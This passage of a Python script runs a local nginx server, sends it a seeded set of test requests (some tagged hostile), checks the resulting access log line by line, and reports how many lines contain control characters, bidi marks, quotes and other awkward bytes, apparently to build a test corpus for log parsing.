            pass  # nginx refused early, its answer is still to be read

    def answer(self, s, head_only):
        """Read one response; True if the connection can be used again."""
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                part = s.recv(262144)
                if not part:
                    return False
                data += part
            head, _, rest = data.partition(b"\r\n\r\n")
            if not head.startswith(b"HTTP/1.1 "):
                while s.recv(262144):
                    pass
                return False
            status = int(head[9:12])
            length = re.search(rb"(?i)\r\nContent-Length: (\d+)", head)
            if b"Transfer-Encoding" in head:
                while not rest.endswith(b"0\r\n\r\n"):
                    part = s.recv(262144)
                    if not part:
                        return False
                    rest += part
            elif length and not head_only and status not in (204, 304):
                missing = int(length[1]) - len(rest)
                while missing > 0:
                    part = s.recv(262144)
                    if not part:
                        return False
                    missing -= len(part)
            return b"Connection: close" not in head
        except ConnectionResetError:
            return False

    def run(self, requests):
        self.tail, self.counted, self.done = b"", 0, 0
        for r in requests:
            self.done += 1
            alone = r.mode != "read" or r.tag is not None
            s = None if alone else self.open.pop(r.addr, None)
            s = s or self.connect(r.addr)
            self.send(s, r.raw)
            keep = False
            if r.mode == "abandon":
                time.sleep(r.delay)
            else:
                if r.mode == "shut":
                    s.shutdown(socket.SHUT_WR)
                keep = self.answer(s, r.line.startswith(b"HEAD "))
            if keep and not alone:
                self.open[r.addr] = s
            else:
                s.close()
                self.lines()
        for s in self.open.values():
            s.close()
        self.lines()


def record():
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    rng = random.Random(SEED)
    requests = plan(rng)
    root = tempfile.mkdtemp(prefix="nginx-")
    listener = socket.create_server(("127.0.0.1", 0), backlog=64)
    threading.Thread(target=backend, args=(listener,), daemon=True).start()
    dead = socket.socket()  # bound, but nobody listens
    dead.bind(("127.0.0.1", 0))
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    server = None
    try:
        for path, size in STATIC.items():
            path = os.path.join(root, "www", path)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(b"x" * size)
            os.utime(path, (MODIFIED, MODIFIED))
        with open(os.path.join(root, "htpasswd"), "w", encoding="utf-8") as f:
            f.writelines("%s:{PLAIN}pw\n" % name for name in USERS)
        conf = NGINX_CONF
        for key, value in {"DIR": root, "PORT": port, "DEAD": dead.getsockname()[1],
                           "BACKEND": listener.getsockname()[1]}.items():
            conf = conf.replace("@%s@" % key, str(value))
        with open(os.path.join(root, "nginx.conf"), "w") as f:
            f.write(conf)
        logged = os.path.join(root, "access.log")
        server = subprocess.Popen(
            [nginx, "-p", root, "-e", os.path.join(root, "error.log"),
             "-c", os.path.join(root, "nginx.conf")], env={"TZ": "UTC", "PATH": os.environ["PATH"]})
        for _ in range(200):
            if server.poll() is not None:
                raise SystemExit("nginx did not start")
            try:
                socket.create_connection(("127.0.0.1", port)).close()
                break
            except OSError:
                time.sleep(0.05)
        with open(logged, "rb") as log:
            Driver(port, log).run(requests)
        server.send_signal(signal.SIGQUIT)
        server.wait(20)
        data, lines = read_log(logged)
        if len(lines) != LINES:
            raise SystemExit("%d lines for %d requests" % (len(lines), LINES))
        if len(data) > LIMIT:
            raise SystemExit("%d bytes, more than %d" % (len(data), LIMIT))
        for number, (sent, got) in enumerate(zip(requests, lines), 1):
            if not sent.expects(got):
                raise SystemExit("line %d: sent %r\nlogged %r" % (number, sent.raw[:600], got))
        with open(RESULT, "wb") as f:
            f.write(data)
        print("hostile:", dict(collections.Counter(r.tag for r in requests if r.tag)))
    finally:
        if server and server.poll() is None:
            server.terminate()
            server.wait()
        listener.close()
        dead.close()
        shutil.rmtree(root)


def is_utf8(data):
    try:
        data.decode()
        return True
    except UnicodeDecodeError:
        return False


def report():
    data, lines = read_log(RESULT)
    raw = data[:-1].split(b"\n")
    bidi = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

    def text(line):
        return line.decode("utf-8", "replace")

    print("lines:", len(lines), " bytes:", len(data), " longest line:", max(map(len, raw)))
    print("status:", dict(sorted(collections.Counter(x.status.decode() for x in lines).items())))
    for name, count in {
        "not valid UTF-8": sum(not is_utf8(x) for x in raw),
        "not ASCII": sum(not x.isascii() for x in raw),
        "with ESC": sum(b"\x1b" in x for x in raw),
        "with CR": sum(b"\r" in x for x in raw),
        "with NUL": sum(b"\0" in x for x in raw),
        "with a tab": sum(b"\t" in x for x in raw),
        "with any C0 control or DEL": sum(bool(re.search(rb"[\x00-\x1f\x7f]", x)) for x in raw),
        "with U+0080..U+009F as UTF-8": sum(bool(re.search("[\x80-\x9f]", text(x))) for x in raw),
        "with U+2028 or U+2029": sum(bool(re.search("[\u2028\u2029]", text(x))) for x in raw),
        "with bidi controls": sum(bool(bidi.search(text(x))) for x in raw),
        'with " in the request': sum(b'"' in x.request for x in lines),
        'with " in the referrer': sum(b'"' in x.referer for x in lines),
        'with " in the user agent': sum(b'"' in x.agent for x in lines),
        "with \\ in a free field": sum(b"\\" in x.request + x.referer + x.agent for x in lines),
        'with `" "` in a free field': sum(any(b'" "' in f for f in (x.request, x.referer, x.agent)) for x in lines),
        "with an empty request": sum(not x.request for x in lines),
        "with an empty referrer": sum(not x.referer for x in lines),
        "with an empty user agent": sum(not x.agent for x in lines),
        "with a user name": sum(x.user not in (b"-", b"?") for x in lines),
        "with a withheld user name (?)": sum(x.user == b"?" for x in lines),
        "of 1,000 bytes or more": sum(len(x) >= 1000 for x in raw),
        "with a duration above 0": sum(x.duration != b"0.000" for x in lines),
    }.items():
        print("%6d %s" % (count, name))


if __name__ == "__main__":
    if sys.argv[1:] not in ([], ["--check"]):
        raise SystemExit(__doc__)
    if not sys.argv[1:]:
        record()
    report()
